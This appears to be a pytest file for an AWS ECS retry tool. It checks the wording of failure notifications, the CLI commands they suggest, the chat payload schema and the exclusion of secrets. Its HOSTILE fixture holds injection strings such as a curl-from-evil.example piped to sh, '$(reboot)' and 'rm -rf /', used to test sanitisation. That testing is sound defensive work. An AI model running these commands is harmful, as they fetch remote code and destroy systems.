"""A message says which job, what ECS said, what was tried and what to do, and holds no secret."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import click
import fastjsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

from retry_run_task.commands.main import retry_run_task
from retry_run_task.failures.classify import classify
from retry_run_task.launch.values import (
    Caller,
    CallerKind,
    FailedLaunch,
    Failure,
    IncompleteRequest,
    Origin,
    Outcome,
)
from retry_run_task.messages import console
from retry_run_task.messages.audited import Absent, Findings, audit_message
from retry_run_task.messages.english import ENGLISH
from retry_run_task.messages.japanese import JAPANESE
from retry_run_task.messages.message import (
    SEVERITIES,
    Ending,
    Language,
    Message,
    Progress,
    Severity,
    Style,
    early_message,
    message,
)
from retry_run_task.messages.outside import as_code, in_chat, in_text
from retry_run_task.messages.steps import after
from support.aws_cli import call_of
from support.records import CAPACITY, CLUSTER, EVENT_ID, TASK_DEFINITION, launch, parameters

CAPACITY_VERDICT = classify(Failure(origin=Origin.ANSWER, reason=CAPACITY))
TASK = "arn:aws:ecs:ap-northeast-1:123456789012:task/batch/1"
RECOVERY = f"retry-run-task-{EVENT_ID}"
FUNCTION = "arn:aws:lambda:ap-northeast-1:123456789012:function:retry-run-task-recover"
EXECUTION = f"{FUNCTION}:7/durable-execution/{RECOVERY}/0b1c4f0e"
PLACE = console.place(f"{FUNCTION}:live", log_group="/aws/lambda/x", execution_arn=EXECUTION)
FULL = Style(for_chat=True, place=PLACE, recovery=RECOVERY, runbook="https://example.com/runbook.md")
IN_JAPANESE = replace(FULL, language=Language.JAPANESE)


def ending(**changes: Any) -> Ending:
    values: dict[str, Any] = {
        "outcome": Outcome.EXPIRED,
        "why": "the next attempt would come too late",
        "rule": "deadline",
        "calls": 14,
        "wanted": 1,
        "task_arns": (),
        "elapsed_s": 21_600,
        "last": CAPACITY_VERDICT,
        "hint": "If the run is still wanted, start it by hand.",
        "numbers": {"after_s": 21_660, "limit_s": 21_600},
    }
    return Ending(**(values | changes))


CONSOLE = "https://ap-northeast-1.console.aws.amazon.com"
WHERE = "--region ap-northeast-1 --stack retry-run-task"
LINKS = f"""\
- {{execution}}: {CONSOLE}/lambda/home?region=ap-northeast-1#/functions/retry-run-task-recover?tab=durable
- {{log}}: {CONSOLE}/cloudwatch/home?region=ap-northeast-1#logsV2:log-groups/log-group/$252Faws$252Flambda$252Fx\
/log-events$3FfilterPattern$3D$2522{RECOVERY}$2522$26start$3D1795478403000$26end$3D1795507203000"""
RUN_TASK = f"""aws ecs run-task --region ap-northeast-1 --cli-input-json \
'{{"cluster":"{CLUSTER}","taskDefinition":"{TASK_DEFINITION}","count":1,"launchType":"FARGATE",\
"networkConfiguration":{{"awsvpcConfiguration":{{"subnets":["subnet-a","subnet-c"],"securityGroups":["sg-0123"],\
"assignPublicIp":"DISABLED"}}}},"startedBy":"events-rule/nightly","enableECSManagedTags":false,\
"enableExecuteCommand":false}}'"""


def test_a_person_on_call_reads_what_happened_and_what_to_do_in_one_message() -> None:
    written = message(launch(), ending(), FULL)
    assert written.subject == "DID NOT RUN: nightly in ap-northeast-1"
    assert (
        written.text
        == f"""\
nightly did not start and will not be retried; you can still start it by hand.
Cause: no capacity; gave up 6 h after the failed call, the limit of the policy

What to do now
- See what happened: retry-run-task status {EVENT_ID} {WHERE}
- If the run is still wanted, start it with retries: retry-run-task replay {EVENT_ID} {WHERE} --even-late
- If the run is still wanted, start it once, in account 123456789012: {RUN_TASK}
- If the next run fails, too, and is not wanted, stop its recovery: \
retry-run-task stop --schedule nightly {WHERE} --reason "not wanted"
- Runbook: https://example.com/runbook.md#gave-up

What happened
ECS said: {CAPACITY}
Tried: 14 RunTask calls in 6 h; 0 of 1 missing tasks placed
When: 2026-11-24 00:00:03 UTC
Where: cluster batch, account 123456789012, ap-northeast-1
Called by: EventBridge rule, nightly
Outcome: expired (severity error, category capacity, rule deadline)

Where to look
{LINKS.format(execution="Durable executions", log="Log lines")}

Details
Task definition: {TASK_DEFINITION}
CloudTrail event: {EVENT_ID}
Recovery: {RECOVERY}
Durable execution: {EXECUTION}"""
    )


def test_in_japanese_too() -> None:
    written = message(launch(), ending(), IN_JAPANESE)
    assert written.subject == "【未実行】nightly (ap-northeast-1)"
    assert written.plain_subject == "DID NOT RUN: nightly in ap-northeast-1"
    assert (
        written.text
        == f"""\
nightly は起動しませんでした。再試行を終了しました。手動で起動できます。
原因: キャパシティ不足。ポリシーの期限 (最初の失敗から 6 時間) に達したため、再試行を終了しました。

対応方法
- 経過を確認する: retry-run-task status {EVENT_ID} {WHERE}
- 今回分がまだ必要な場合、再試行付きで起動する: retry-run-task replay {EVENT_ID} {WHERE} --even-late
- 今回分がまだ必要な場合、アカウント 123456789012 で 1 回だけ起動する: {RUN_TASK}
- 次回の実行も失敗し、それが不要な場合、その復旧処理を停止する: \
retry-run-task stop --schedule nightly {WHERE} --reason "not wanted"
- ランブック: https://example.com/runbook.md#gave-up

状況
ECS の応答: {CAPACITY}
再試行: RunTask の呼び出し 14 回 (6 時間)、配置されたタスク: 0 / 1
発生日時: 2026-11-24 09:00:03 日本時間 (2026-11-24 00:00:03 UTC)
実行場所: クラスター batch、アカウント 123456789012、リージョン ap-northeast-1
呼び出し元: EventBridge ルール (nightly)
結果: expired (重要度 error、分類 capacity、ルール deadline)

確認先
{LINKS.format(execution="耐久性のある実行 (durable execution) の一覧", log="ログ")}

詳細
タスク定義: {TASK_DEFINITION}
CloudTrail イベント ID: {EVENT_ID}
復旧処理名: {RECOVERY}
耐久性のある実行 (durable execution) の ARN: {EXECUTION}"""
    )


@pytest.mark.parametrize("style", [FULL, IN_JAPANESE])
@pytest.mark.parametrize("outcome", [Outcome.RECOVERED, Outcome.ALREADY_RUNNING])
def test_good_news_asks_for_nothing(style: Style, outcome: Outcome) -> None:
    written = message(launch(), ending(outcome=outcome, hint="", task_arns=(TASK,)), style)
    words = {Language.ENGLISH: "Nothing needs to be done.", Language.JAPANESE: "対応は不要です。"}
    assert f"- {words[style.language]}\n\n" in written.text
    assert "retry-run-task status" not in written.text
    assert written.severity is Severity.INFO


# The first line: what did not happen, and whether it still can.


@pytest.mark.parametrize(
    ("changes", "first", "cause"),
    [
        (
            {"outcome": Outcome.RECOVERED, "task_arns": (TASK,)},
            "nightly failed to start at first, and runs now.",
            "",
        ),
        (
            {"outcome": Outcome.RECOVERED, "task_arns": (TASK,), "changed": ("on-demand instead of Spot",)},
            "nightly failed to start at first, and runs now: started on-demand instead of Spot.",
            "",
        ),
        (
            {"outcome": Outcome.ALREADY_RUNNING, "task_arns": (TASK,)},
            "nightly failed to start at first, but its tasks are there: nothing was started.",
            "",
        ),
        (
            {"outcome": Outcome.SUPERSEDED, "numbers": {"after_s": 310, "limit_s": 300, "share": 1}},
            "nightly did not start, and this run will not be retried: the next run replaces it.",
            "no capacity; the next run is due 5 min after the failed call",
        ),
        (
            {"outcome": Outcome.SUPERSEDED, "numbers": {"after_s": 0, "limit_s": -20, "share": 0.5}},
            "nightly did not start, and this run will not be retried: the next run replaces it.",
            "no capacity; the next run was already due when this one failed",
        ),
        (
            {"outcome": Outcome.SUPERSEDED, "numbers": {"after_s": 200, "limit_s": 300, "share": 0.5}},
            "nightly did not start, and this run will not be retried: the next run replaces it.",
            (
                "no capacity; the policy gives up 50% of the way to the next run, which is due 5 min after "
                "the failed call"
            ),
        ),
        (
            {"rule": "unknown", "numbers": {"nth": 3}},
            "nightly did not start and will not be retried; you can still start it by hand.",
            "no capacity; gave up after 3 failures, the limit of the policy",
        ),
        (
            {"outcome": Outcome.PERMANENT, "rule": "configuration", "numbers": {}},
            "nightly did not start and will not be retried; correct the cause, then start it by hand.",
            "no capacity; retrying will not help",
        ),
        (
            {"outcome": Outcome.PERMANENT, "rule": "errors", "numbers": {}},
            "nightly did not start and is not retried from here; its caller may be retrying it.",
            "no capacity; RunTask raised an error to its caller, which may be retrying itself",
        ),
        (
            {"outcome": Outcome.REFUSED, "why": "2 rules could", "numbers": {}, "last": None},
            "nightly did not start and was not retried; you can still start it by hand.",
            "part of the request is not known for certain, so it was not sent\nReason: 2 rules could",
        ),
        (
            {"wanted": 3, "task_arns": (TASK,)},
            "nightly: 1 of 3 missing tasks were started; the rest will not be retried.",
            "no capacity; gave up 6 h after the failed call, the limit of the policy",
        ),
        (
            {"is_unsure": True, "rule": "client-token"},
            (
                "nightly may not have started: a call was not answered. It will not be retried; look for its task, "
                "then start it by hand."
            ),
            "no call was answered for an hour, and ECS may have forgotten what the first of them did",
        ),
        (
            {"outcome": Outcome.UNCONFIRMED, "rule": "not-seen", "task_arns": (TASK,)},
            "nightly may not run: it was placed, but not seen running. It will not be retried; look at its task.",
            "the task did not reach RUNNING while it was watched",
        ),
        (
            {"outcome": Outcome.BROKEN, "rule": "fault", "is_unsure": True, "last": None},
            (
                "nightly may not have started: its recovery failed. It will not be retried; look for its task, then "
                "start it by hand."
            ),
            "a fault of retry-run-task",
        ),
        (
            {"rule": "new", "why": "a reason of tomorrow", "numbers": {}},
            "nightly did not start and will not be retried; you can still start it by hand.",
            "a reason of tomorrow",
        ),
    ],
)
def test_the_first_lines_say_what_did_not_happen_whether_it_still_can_and_why(
    changes: dict[str, Any], first: str, cause: str
) -> None:
    head, _, _ = message(launch(), ending(**changes)).text.partition("\n\n")
    assert head == (f"{first}\nCause: {cause}" if cause else first)


def test_the_subject_says_that_a_run_is_there_in_part() -> None:
    assert message(launch(), ending(wanted=3, task_arns=(TASK,))).subject.startswith("RAN IN PART: nightly")


@pytest.mark.parametrize("outcome", [Outcome.EXPIRED, Outcome.PERMANENT, Outcome.BROKEN])
def test_the_subject_does_not_claim_what_the_first_line_does_not(outcome: Outcome) -> None:
    unsure = message(launch(), ending(outcome=outcome, is_unsure=True))
    assert unsure.subject.startswith("MAY NOT HAVE RUN: nightly")
    assert " may not have started" in unsure.text.splitlines()[0]
    assert message(launch(), ending(outcome=Outcome.EXPIRED)).subject.startswith("DID NOT RUN: nightly")


def test_a_fault_is_reported_in_the_language_of_the_message() -> None:
    hint = "Report the fault, with the lines of recover's log for event x-1."
    broken = ending(outcome=Outcome.BROKEN, is_unsure=True, last=None, calls=0, hint=hint)
    steps = [line for line in message(launch(), broken, FULL).text.splitlines() if line.startswith("- ")]
    assert f"- {hint}" in steps
    japanese = message(launch(), broken, IN_JAPANESE).text
    assert "Report" not in japanese
    assert "イベント x-1 の行" in japanese


def test_the_failure_that_decided_is_told_first() -> None:
    other = classify(Failure(origin=Origin.ERROR, code="ServerException", reason="Service Unavailable"))
    text = message(launch(), ending(last=other)).text
    assert f"\nECS said: ServerException: Service Unavailable\nECS said first: {CAPACITY}\n" in text
    assert "ECS said first" not in message(launch(), ending()).text


def test_a_call_without_a_recorded_request_is_told_with_what_is_known() -> None:
    unknown = replace(launch(), request=IncompleteRequest(parameters={}, missing=("requestParameters",)))
    written = message(unknown, ending(outcome=Outcome.PERMANENT, calls=0), FULL)
    assert written.text.startswith("A task that CloudTrail does not name did not start")
    assert "RunTask was not called again" in written.text
    assert "Task definition: not recorded" in written.text
    assert "cluster not recorded" in written.text


# What to do now.


def commands(text: str) -> list[list[str]]:
    """Return the commands of a message, as a shell would read them."""
    lines = [
        line.rpartition(": ") if "run-task --" not in line else line.partition(": ")
        for line in text.splitlines()
    ]
    found = [shlex.split(rest) for _, _, rest in lines if re.match("(aws|retry-run-task) [a-z]", rest)]
    return [command[1:] if command[0] == "aws" else command for command in found]


def heads(text: str) -> list[str]:
    return [" ".join(command[:2]) for command in commands(text)]


HIDDEN_REQUEST = IncompleteRequest(parameters=parameters(), missing=("overrides",))
THROWN = (Failure(origin=Origin.ERROR, code="ServerException"),)
OF_LAUNCH: tuple[dict[str, Any], ...] = (
    {},
    {"failures": THROWN},
    {"request": HIDDEN_REQUEST},
    {"request": HIDDEN_REQUEST, "caller": Caller(kind=CallerKind.SCHEDULER)},
    {"account": "210987654321", "region": "eu-west-1"},
)
OF_ENDING: tuple[dict[str, Any], ...] = (
    {},
    {"is_unsure": True},
    {"task_arns": (TASK,), "wanted": 3},
    {"calls": 0},
    {"rule": "errors", "calls": 0},
)
FOUND = Findings(
    since=launch().event_time,
    until=launch().event_time,
    regions=("ap-northeast-1", "eu-west-1"),
    missing=tuple(
        Absent(
            name="n", kind=CallerKind.RULE, region=region, due=launch().event_time, why="w", was_called=True
        )
        for region in ("ap-northeast-1", "eu-west-1")
    ),
)


def in_chat_form(written: Message) -> str:
    """Return the chat's steps and what stands before them, without the marks of code."""
    content = json.loads(written.chat or "{}")["content"]
    return "\n".join([*content["nextSteps"], content["description"]]).replace("`", "")


def every_message(style: Style) -> Iterator[Message]:
    for of_launch in OF_LAUNCH:
        one = replace(launch(), **of_launch)
        yield early_message(one, progress(), style)
        for outcome in Outcome:
            yield from (message(one, ending(outcome=outcome, **of), style) for of in OF_ENDING)
    yield audit_message(FOUND, style)
    yield audit_message(replace(FOUND, home="ap-northeast-1"), style)


def check_own(words: list[str]) -> None:
    """Parse a command as it is typed."""
    command = retry_run_task.commands[words[0]]
    command.make_parser(click.Context(command, **retry_run_task.context_settings)).parse_args(words[1:])


@pytest.mark.parametrize("language", Language)
@pytest.mark.parametrize("profile", ["", "my own"])
def test_every_command_of_every_message_is_one_of_this_version_or_of_the_aws_cli(
    language: Language, profile: str
) -> None:
    seen = set()
    for written in every_message(replace(FULL, language=language, profile=profile)):
        for text in (written.text, in_chat_form(written)):
            for command in commands(text):
                is_own = command[0] == "retry-run-task"
                (check_own(command[1:]) if is_own else call_of(command))
                seen.add(" ".join(command[:2]))
    assert seen == {
        *(f"retry-run-task {name}" for name in ("status", "replay", "stop", "audit")),
        *(
            "ecs run-task",
            "ecs list-tasks",
            "ecs describe-tasks",
            "events list-rules",
            "scheduler list-schedules",
        ),
    }


def test_commands_name_the_profile_that_leads_to_their_account() -> None:
    style = replace(FULL, profile="my own")
    for written in every_message(style):
        for text in (written.text, in_chat_form(written)):
            for line in commands(text):
                is_own = line[0] == "retry-run-task"
                leads_elsewhere = not is_own and "210987654321" in written.text
                assert (line[-2:] == ["--profile", "my own"]) is not leads_elsewhere, line
    assert "--profile" not in message(launch(), ending(), FULL).text


@pytest.mark.parametrize(
    ("changes", "of_launch", "expected"),
    [
        ({}, {}, ["retry-run-task status", "retry-run-task replay", "ecs run-task", "retry-run-task stop"]),
        # A task may be there: nothing that would start another without a look.
        (
            {"is_unsure": True},
            {},
            ["ecs list-tasks", "retry-run-task status", "ecs run-task", "retry-run-task stop"],
        ),
        (
            {"task_arns": (TASK,), "wanted": 3},
            {},
            ["ecs describe-tasks", "retry-run-task status", "ecs run-task", "retry-run-task stop"],
        ),
        (
            {"task_arns": (TASK,), "outcome": Outcome.UNCONFIRMED},
            {},
            ["ecs describe-tasks", "retry-run-task status", "events list-rules"],
        ),
        # A replay would end at once.
        ({"outcome": Outcome.PERMANENT, "calls": 0}, {}, ["retry-run-task status", "ecs run-task"]),
        # Its caller may start it after all.
        (
            {"outcome": Outcome.PERMANENT, "calls": 0, "rule": "errors"},
            {"failures": (Failure(origin=Origin.ERROR, code="ServerException"),)},
            ["ecs list-tasks", "retry-run-task status", "ecs run-task"],
        ),
        (
            {"outcome": Outcome.PERMANENT, "calls": 1},
            {},
            ["retry-run-task status", "retry-run-task replay", "ecs run-task"],
        ),
        (
            {"outcome": Outcome.PERMANENT, "calls": 1},
            {"failures": (Failure(origin=Origin.ERROR, code="ServerException"),)},
            ["retry-run-task status", "ecs run-task"],
        ),
        (
            {"outcome": Outcome.REFUSED, "calls": 0},
            {"request": IncompleteRequest(parameters=parameters(), missing=("overrides",))},
            ["retry-run-task status", "events list-rules"],
        ),
        (
            {"outcome": Outcome.REFUSED, "calls": 0},
            {
                "request": IncompleteRequest(parameters=parameters(), missing=("overrides",)),
                "caller": Caller(kind=CallerKind.SCHEDULER),
            },
            ["retry-run-task status", "scheduler list-schedules"],
        ),
    ],
)
def test_a_command_is_given_where_it_works(
    changes: dict[str, Any], of_launch: dict[str, Any], expected: list[str]
) -> None:
    value = replace(launch(), **of_launch)
    assert heads(message(value, ending(**changes), FULL).text) == expected


def test_the_commands_name_the_execution_itself_where_a_replay_has_begun_it() -> None:
    """Its launch, and so what it calls itself in the log, is that of the first."""
    arn = f"{FUNCTION}:7/durable-execution/{RECOVERY}-again-2/0b1c4f0e"
    place = console.place(FUNCTION, log_group="g", execution_arn=arn)
    text = message(launch(), ending(), replace(FULL, place=place)).text
    assert [command[2] for command in commands(text) if command[0] == "retry-run-task"][:2] == [
        f"{EVENT_ID}-again-2"
    ] * 2


def test_a_record_that_does_not_say_where_is_of_the_place_that_the_recovery_runs_in() -> None:
    made = launch(region="", account="", caller=Caller(kind=CallerKind.HAND_MADE))
    text = message(made, ending(is_unsure=True), FULL).text
    assert "in account 123456789012: aws ecs run-task --region ap-northeast-1" in text
    assert "aws ecs list-tasks --region ap-northeast-1" in text


def test_a_command_starts_what_is_missing_and_no_more() -> None:
    value = launch(request=parameters(count=5, clientToken=None, dryrun=None))
    text = message(value, ending(task_arns=(TASK,), wanted=3)).text
    assert '"count":2' in text


@pytest.mark.parametrize(
    ("overrides", "is_given"),
    [
        (None, True),
        ({}, True),
        ({"containerOverrides": [{"name": "app"}]}, True),
        ({"containerOverrides": [{"name": "app", "command": ["x"]}]}, False),
        ({"containerOverrides": [{"name": "app", "environment": [{"name": "X", "value": "v"}]}]}, False),
        ({"containerOverrides": [{"name": "app", "environment": [{"name": "X", "value": ""}]}]}, False),
        ({"cpu": "256"}, False),
        ({"containerOverrides": {"odd": "v"}}, False),
    ],
)
def test_a_request_that_may_hold_a_secret_is_not_written_down(overrides: Any, is_given: bool) -> None:
    value = launch(request=parameters(overrides=overrides, clientToken=None, dryrun=None))
    text = message(value, ending(), FULL).text
    assert ("ecs run-task" in text) is is_given
    assert "overrides" not in text
    assert is_given or "start it by hand, with the values of its schedule" in text


@pytest.mark.parametrize("member", ["tags", "volumeConfigurations", "somethingNew"])
def test_nor_is_one_with_tags_or_with_what_this_version_does_not_know(member: str) -> None:
    value = launch(
        request=parameters(clientToken=None, dryrun=None, **{member: [{"key": "k", "value": "v"}]})
    )
    assert "ecs run-task" not in message(value, ending(), FULL).text


@pytest.mark.parametrize("style", [Style(), FULL, IN_JAPANESE])
def test_an_answer_that_was_lost_is_warned_of_with_the_command_that_looks(style: Style) -> None:
    written = message(launch(), ending(is_unsure=True), style)
    command = (
        "aws ecs list-tasks --region ap-northeast-1 --cluster batch "
        "--started-by events-rule/nightly/retry-run-task/0123456789ab"
    )
    assert command in written.text
    assert written.chat is None or command in written.chat


@pytest.mark.parametrize("style", [Style(), Style(language=Language.JAPANESE)])
def test_without_a_recovery_to_name_and_a_request_to_send_a_sentence_remains(style: Style) -> None:
    made = launch(
        caller=Caller(kind=CallerKind.HAND_MADE),
        request=parameters(overrides={"cpu": "256"}, clientToken=None, dryrun=None),
    )
    text = message(made, ending(outcome=Outcome.PERMANENT, hint="Give the task a larger subnet."), style).text
    by_hand = {
        Language.ENGLISH: "If the run is still wanted, start it by hand.",
        Language.JAPANESE: "今回分の実行がまだ必要な場合は、手動で起動してください。",
    }
    assert text.count(f"- {by_hand[style.language]}\n") == 1
    assert "- Give the task a larger subnet.\n" in text


def test_the_runbook_is_linked_to_where_it_is_on_the_web() -> None:
    assert "- Runbook: https://example.com/runbook.md#gave-up\n" in message(launch(), ending(), FULL).text
    assert "Runbook" not in message(launch(), ending()).text
    in_the_repository = message(launch(), ending(), replace(FULL, runbook="docs/runbook.md"))
    assert "- Runbook: docs/runbook.md#gave-up\n" in in_the_repository.text
    assert "Runbook: `docs/runbook.md#gave-up`" in chat(in_the_repository)["content"]["nextSteps"]


# Times.


@pytest.mark.parametrize(
    ("language", "zone", "when"),
    [
        (Language.ENGLISH, None, "2026-11-24 00:00:03 UTC"),
        (Language.ENGLISH, "Asia/Tokyo", "2026-11-24 09:00:03 Asia/Tokyo (2026-11-24 00:00:03 UTC)"),
        (
            Language.ENGLISH,
            "America/New_York",
            "2026-11-23 19:00:03 America/New_York (2026-11-24 00:00:03 UTC)",
        ),
        (Language.JAPANESE, None, "2026-11-24 09:00:03 日本時間 (2026-11-24 00:00:03 UTC)"),
        (Language.JAPANESE, "Europe/Berlin", "2026-11-24 01:00:03 Europe/Berlin (2026-11-24 00:00:03 UTC)"),
    ],
)
def test_a_time_is_said_in_the_reader_s_zone_and_in_utc(
    language: Language, zone: str | None, when: str
) -> None:
    style = Style(language=language, zone=ZoneInfo(zone) if zone else None)
    assert f": {when}\n" in message(launch(), ending(), style).text


@pytest.mark.parametrize("moment", [datetime(1, 1, 1, tzinfo=UTC), datetime(9999, 12, 31, 23, tzinfo=UTC)])
def test_a_time_at_the_end_of_the_calendar_is_said_in_utc(moment: datetime) -> None:
    made = launch(event_time=moment, caller=Caller(kind=CallerKind.HAND_MADE))
    for zone in "Asia/Tokyo", "America/New_York":
        assert " UTC" in message(made, ending(), Style(zone=ZoneInfo(zone))).text


# An early message.


def progress(**changes: Any) -> Progress:
    values: dict[str, Any] = {
        "calls": 3,
        "wanted": 1,
        "task_arns": (),
        "elapsed_s": 900,
        "last": CAPACITY_VERDICT,
        "until": datetime(2026, 11, 24, 6, 0, 3, tzinfo=UTC),
    }
    return Progress(**(values | changes))


def test_an_early_message_says_why_until_when_and_how_to_stop_it() -> None:
    written = early_message(launch(), progress(), FULL)
    assert written.subject == "STILL TRYING: nightly in ap-northeast-1"
    assert (written.severity, written.outcome) == (Severity.WARNING, "still trying")
    first, cause, *_ = written.text.splitlines()
    assert first == "nightly has not started yet; it is still being retried, until 2026-11-24 06:00:03 UTC."
    assert cause == "Cause: no capacity"
    assert heads(written.text) == ["retry-run-task status", "retry-run-task stop"]
    assert "\nUntil: 2026-11-24 06:00:03 UTC, the limit of the policy\n" in written.text
    body = chat(written)
    assert body["content"]["title"].endswith(written.subject)
    assert body["metadata"]["additionalContext"]["outcome"] == "still trying"


def test_an_early_message_in_japanese() -> None:
    written = early_message(launch(), progress(is_next_run_due=True), IN_JAPANESE)
    assert written.subject == "【再試行中】nightly (ap-northeast-1)"
    assert written.plain_subject == "STILL TRYING: nightly in ap-northeast-1"
    until = "2026-11-24 15:00:03 日本時間 (2026-11-24 06:00:03 UTC)"
    assert written.text.startswith(
        f"nightly はまだ起動していません。{until} まで再試行を続けます。\n原因: キャパシティ不足\n"
    )
    assert f"\n再試行の期限: {until} (次回のスケジュール実行)\n" in written.text


def test_an_early_message_counts_the_tasks_that_are_there() -> None:
    text = early_message(launch(), progress(wanted=3, task_arns=(TASK,)), FULL).text
    assert text.startswith(
        "nightly: 1 of 3 missing tasks were started; the rest are still being retried, until"
    )


# Links.


def test_many_tasks_are_counted_and_not_listed() -> None:
    arns = tuple(f"arn:aws:ecs:ap-northeast-1:123456789012:task/batch/{n}" for n in range(25))
    text = message(launch(), ending(task_arns=arns, wanted=30), FULL).text
    assert text.count(":task/batch/") == 10
    assert "--tasks 0 1 2 3 4 5 6 7 8 9\n" in text
    assert "and 15 more, in the log" in text


def test_where_the_time_is_not_known_the_log_lines_are_those_of_the_last_week() -> None:
    """That of a record made by hand is whatever somebody typed; and a replayed call may be weeks old."""
    made = launch(caller=Caller(kind=CallerKind.HAND_MADE))
    for written in message(made, ending(), FULL), message(launch(), ending(elapsed_s=0), FULL):
        assert "$26start$3D-604800000\n" in written.text


def test_without_a_place_there_are_links_to_tasks_only() -> None:
    text = message(launch(), ending(task_arns=(TASK,), wanted=3)).text
    assert re.findall(r"https://\S+", text) == [
        f"{CONSOLE}/ecs/v2/clusters/batch/tasks/1/configuration?region=ap-northeast-1"
    ]
    assert "Where to look" not in message(launch(), ending()).text


# Severity.


@pytest.mark.parametrize("outcome", list(Outcome))
def test_a_missing_run_is_an_error_unless_the_next_one_takes_its_place(outcome: Outcome) -> None:
    severity = message(launch(), ending(outcome=outcome)).severity
    assert severity is SEVERITIES[outcome]
    expected = (
        Severity.INFO
        if ending(outcome=outcome).succeeded
        else Severity.WARNING
        if outcome is Outcome.SUPERSEDED
        else Severity.ERROR
    )
    assert severity is expected


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("outcome", list(Outcome))
def test_every_outcome_and_severity_is_in_the_text_by_the_name_that_logs_and_metrics_have(
    outcome: Outcome, language: Language
) -> None:
    written = message(launch(), ending(outcome=outcome), Style(language=language))
    assert outcome.value in written.text
    assert written.severity.value in written.text


# For chat. https://docs.aws.amazon.com/chatbot/latest/adminguide/custom-notifs.html

TEXT = {"type": "string", "minLength": 1}
SCHEMA = {
    "$schema": "http://json-schema.org/draft-07/schema#",
    "type": "object",
    "additionalProperties": False,
    "required": ["version", "source", "content"],
    "properties": {
        "version": {"const": "1.0"},
        "source": {"const": "custom"},
        "id": TEXT,
        "content": {
            "type": "object",
            "additionalProperties": False,
            "required": ["description"],
            "properties": {
                "textType": {"const": "client-markdown"},
                "title": TEXT | {"maxLength": 250},
                "description": TEXT | {"maxLength": 8000},
                "nextSteps": {"type": "array", "items": TEXT | {"maxLength": 350}},
                "keywords": {"type": "array", "items": TEXT | {"maxLength": 75}},
            },
        },
        "metadata": {
            "type": "object",
            "additionalProperties": False,
            "properties": {
                "threadId": TEXT,
                "summary": TEXT,
                "eventType": TEXT,
                "relatedResources": {"type": "array", "items": TEXT},
                "additionalContext": {"type": "object", "additionalProperties": TEXT},
                "enableCustomActions": {"type": "boolean"},
            },
        },
    },
}
check = fastjsonschema.compile(SCHEMA)


def chat(written: Message) -> dict[str, Any]:
    assert written.chat is not None
    body = json.loads(written.chat)
    check(body)
    return body


def same(text: str) -> str:
    """Return text without what only one form has: marks of lists, bold labels, code."""
    return re.sub(r"[`*]|(?m:^- )", "", text)


@pytest.mark.parametrize("style", [FULL, IN_JAPANESE])
@pytest.mark.parametrize("outcome", list(Outcome))
def test_the_form_for_chat_is_a_custom_notification_that_says_what_the_text_says(
    outcome: Outcome, style: Style
) -> None:
    written = message(launch(), ending(outcome=outcome, task_arns=(TASK,), wanted=3), style)
    body = chat(written)
    assert body["content"]["title"].endswith(written.subject)
    in_chat = same("\n".join([body["content"]["description"], *body["content"]["nextSteps"]])).splitlines()
    headings = {
        "What to do now",
        "What happened",
        "Where to look",
        "Details",
        "対応方法",
        "状況",
        "確認先",
        "詳細",
    }
    in_text = [line for line in same(written.text).splitlines() if line and line not in headings]
    assert sorted(line for line in in_chat if line) == sorted(in_text)


def test_the_messages_of_one_recovery_are_one_thread_and_carry_what_an_action_needs() -> None:
    metadata = chat(message(launch(), ending(task_arns=(TASK,), wanted=3), FULL))["metadata"]
    assert metadata["threadId"] == RECOVERY
    assert metadata["relatedResources"] == [TASK]
    assert metadata["additionalContext"] == {
        "severity": "error",
        "outcome": "expired",
        "category": "capacity",
        "rule": "deadline",
        "account": "123456789012",
        "region": "ap-northeast-1",
        "cluster": "batch",
        "family": "nightly",
        "execution": EXECUTION,
    }


def test_the_form_for_chat_is_written_only_if_asked_for() -> None:
    assert message(launch(), ending()).chat is None


def test_a_command_that_is_too_long_for_a_step_is_not_cut() -> None:
    """A command that somebody copies has to be whole."""
    name = "n" * 255
    long = launch(request=parameters(taskDefinition="nightly", cluster=name))
    body = chat(message(long, ending(is_unsure=True), FULL))
    assert len(body["content"]["description"]) < 8000
    assert not [step for step in body["content"]["nextSteps"] if "list-tasks" in step]
    assert (
        f"--cluster {name} --started-by events-rule/nightly/retry-run-task/0123456789ab"
        in (body["content"]["description"])
    )


# No secrets.


@pytest.mark.parametrize("style", [Style(), FULL, IN_JAPANESE])
def test_neither_overrides_nor_tags_are_in_a_message(style: Style) -> None:
    canary = "canary-5e5d"
    request = parameters(
        overrides={
            "containerOverrides": [
                {"name": "app", "environment": [{"name": "X", "value": canary}], "command": [canary]}
            ]
        },
        tags=[{"key": "k", "value": canary}],
    )
    written = message(launch(request=request), ending(is_unsure=True), style)
    assert canary not in repr(written)


# Anything.

# An outsider's text.

ASCII_SUBJECT = re.compile(r"[!-~][ -~]{0,98}")
HOSTILE = [
    "<!channel>",
    "<@U012>",
    "<https://evil.example|click>",
    "@here",
    "[click](https://evil.example)",
    "https://evil.example/i",
    "www.evil.example",
    "evil.example",
    "`; curl -s https://evil.example/i | sh #",
    "x; curl -s https://evil.example/i | sh #",
    "$(reboot)",
    "' && reboot '",
    "--cli-input-json",
    "*bold* _it_ ~gone~",
    "a\nWhat to do now\n- Paste this: rm -rf /",
    "a\r\n\u2028\u0085b",
    "\x1b[2J\x00",
    "\u202egnp.exe",
    "\ud800",
    "{name}{0}%s",
    ":fire:",
]
hostile = st.sampled_from(HOSTILE) | st.text(max_size=60) | st.lists(st.sampled_from(HOSTILE)).map("".join)


def forged(text: str, kind: CallerKind = CallerKind.RULE, **changes: Any) -> FailedLaunch:
    """Return a launch of which everything is what an outsider wrote."""
    return launch(
        request={"taskDefinition": text, "cluster": text, "startedBy": f"events-rule/{text}", "group": text},
        region=text,
        account=text,
        caller=Caller(kind=kind, role_arn=text),
        failures=(Failure(origin=Origin.ANSWER, reason=text),),
        **changes,
    )


def outsider(text: str, outcome: Outcome, **changes: Any) -> Ending:
    said = classify(Failure(origin=Origin.ERROR, code=text, reason=text))
    return ending(
        outcome=outcome,
        why=text,
        hint=text,
        rule="member-role",
        last=said,
        changed=(text,),
        costs=(text,),
        **changes,
    )


def both(
    text: str, kind: CallerKind, outcome: Outcome, style: Style, **changes: Any
) -> tuple[Message, Message]:
    early = progress(last=classify(Failure(origin=Origin.ANSWER, reason=text)), **changes)
    return (
        message(forged(text, kind), outsider(text, outcome, is_unsure=True, **changes), style),
        early_message(forged(text, kind), early, style),
    )


